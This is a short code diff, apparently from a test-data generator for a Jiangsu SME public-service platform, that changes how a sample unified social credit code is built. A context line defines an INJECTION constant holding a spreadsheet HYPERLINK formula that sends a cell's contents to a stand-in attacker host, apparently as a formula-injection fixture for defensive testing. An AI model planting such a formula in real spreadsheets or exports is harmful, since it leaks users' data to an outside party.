@@ -427,9 +427,9 @@ PLATFORM = "江苏省中小企业公共服务中心"
 INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
 
 
-def _credit_code(body: str = "91320100MA1XK5R3D") -> str:
-    from stdnum.cn import uscc
-    return body + uscc.calc_check_digit(body)
+def _credit_code() -> str:
+    from samples.codes import credit_code
+    return credit_code(430)
 
 
 def city_rows(spec, year: int = 2026) -> dict[str, list[dict]]:
